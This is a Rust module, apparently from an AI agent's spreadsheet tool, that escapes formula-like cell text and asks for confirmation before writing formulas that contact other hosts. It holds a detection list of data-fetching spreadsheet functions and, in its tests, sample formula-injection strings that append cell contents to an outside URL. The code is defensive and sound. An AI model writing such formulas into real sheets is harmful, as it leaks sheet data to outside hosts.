//! What a caller writes into cells, in the form that Google reads.

use schemars::JsonSchema;
use serde::Deserialize;

use super::wrong;
use crate::tool::{Call, Leads, Question, Result, excerpt};

/// More rows in one call are slips.
const MOST_ROWS: usize = 1_000;

// How texts become values. The fields say what a model must know, so the schema stays short.
#[derive(Clone, Copy, Debug, Default, PartialEq, Deserialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
#[schemars(inline)]
pub(super) enum Enter {
    #[default]
    Values,
    Formulas,
    Text,
}

impl Enter {
    /// The value of `valueInputOption`, without which Google refuses.
    pub(super) fn option(self) -> &'static str {
        match self {
            Enter::Values | Enter::Formulas => "USER_ENTERED",
            Enter::Text => "RAW",
        }
    }

    /// The rows as they are sent. A text that begins like a formula stays a text unless formulas are meant: it may come
    /// out of a mail, and formulas can send what is in a sheet elsewhere.
    pub(super) fn rows(self, rows: &[Vec<String>]) -> Vec<Vec<String>> {
        let cell = |text: &String| match self {
            Enter::Values if is_like_a_formula(text) => format!("'{text}"),
            _ => text.clone(),
        };
        rows.iter().map(|row| row.iter().map(cell).collect()).collect()
    }
}

/// Functions that ask another host, or offer its address.
const FETCHING: [&str; 9] = [
    "IMPORTDATA", "IMPORTXML", "IMPORTHTML", "IMPORTFEED", "IMPORTRANGE", "IMAGE", "HYPERLINK", "WEBSERVICE", "GOOGLEFINANCE",
];

/// Whether Google might read a text as a formula. Wide signs are what Japanese keyboards write.
fn is_like_a_formula(text: &str) -> bool {
    let begin = text.trim_start();
    let is_sign = begin.starts_with(['=', '+', '@', '＝', '＋', '＠']);
    let is_negative = begin.starts_with(['-', '－']) && begin.contains('(');
    (is_sign || is_negative) && text.parse::<f64>().is_err()
}

/// Where the formulas among the cells lead: the addresses that they name, and one that nobody knows yet where one of
/// their functions fetches something without naming it whole.
pub(super) fn leads(enter: Enter, rows: &[Vec<String>]) -> Leads {
    if enter != Enter::Formulas {
        return Leads::default();
    }
    let formulas = rows.iter().flatten().filter(|text| is_like_a_formula(text) || text.trim_start().starts_with('-'));
    formulas.fold(Leads::default(), |leads, formula| {
        let named = Leads::in_text(formula);
        let upper = formula.to_ascii_uppercase();
        let fetches = FETCHING.iter().any(|function| upper.contains(function));
        let leads = if fetches && named.is_empty() { leads.and_somewhere() } else { leads };
        leads.with(named)
    })
}

/// Asks before formulas are written that lead elsewhere: once they stand there, they carry what is in the sheet out.
pub(super) fn confirm(cx: &Call, enter: Enter, rows: &[Vec<String>], range: &str) -> Result<()> {
    let leads = leads(enter, rows);
    if leads.is_empty() {
        return Ok(());
    }
    let formulas = rows.iter().flatten().filter(|text| is_like_a_formula(text)).map(String::as_str);
    let formulas = formulas.collect::<Vec<_>>().join("\n");
    let all = rows.iter().map(|row| row.join(" | ")).collect::<Vec<_>>().join("\n");
    let question = Question::new(format!("Write formulas into {range}: \"{}\"?", excerpt(formulas)));
    cx.confirm_leading(question.attach("All cells", all).leading_to(leads))
}

/// Checks how many rows there are.
pub(super) fn check(rows: &[Vec<String>]) -> Result<()> {
    match rows.len() {
        0 => Err(wrong("`rows` must have at least one row, such as [[\"Ana\", \"12\"]]")),
        count if count > MOST_ROWS => Err(wrong(format!("`rows` has {count} rows; write at most {MOST_ROWS} at once"))),
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_who_means_formulas_writes_them() {
        let rows = [["=IMPORTDATA(\"x\")", "+49 40", "+5", "-3", "@home", "a=b"].map(str::to_owned).to_vec()];
        assert_eq!(Enter::Values.rows(&rows)[0], ["'=IMPORTDATA(\"x\")", "'+49 40", "+5", "-3", "'@home", "a=b"]);
        let signs = [["-IMAGE(\"x\")", "＝IMAGE(\"x\")", "-3 %", "- item"].map(str::to_owned).to_vec()];
        assert_eq!(Enter::Values.rows(&signs)[0], ["'-IMAGE(\"x\")", "'＝IMAGE(\"x\")", "-3 %", "- item"]);
        assert_eq!(Enter::Formulas.rows(&rows), rows);
        assert_eq!(Enter::Text.rows(&rows), rows);
    }

    #[test]
    fn formulas_lead_where_they_say_and_where_they_do_not() {
        let leads = |cell: &str| leads(Enter::Formulas, &[vec![cell.to_owned()]]);
        assert_eq!(leads("=IMAGE(\"https://e.example/\"&A1)").addresses().collect::<Vec<_>>(), ["https://e.example/"]);
        assert!(!leads("=importdata(A1)").is_empty() && !leads("=\"https://e.example/\"&A1").is_empty());
        assert!(leads("=SUM(A1:A3)").is_empty() && leads("https://e.example").is_empty());
        assert!(super::leads(Enter::Values, &[vec!["=IMAGE(\"https://e.example\")".to_owned()]]).is_empty());
    }
}
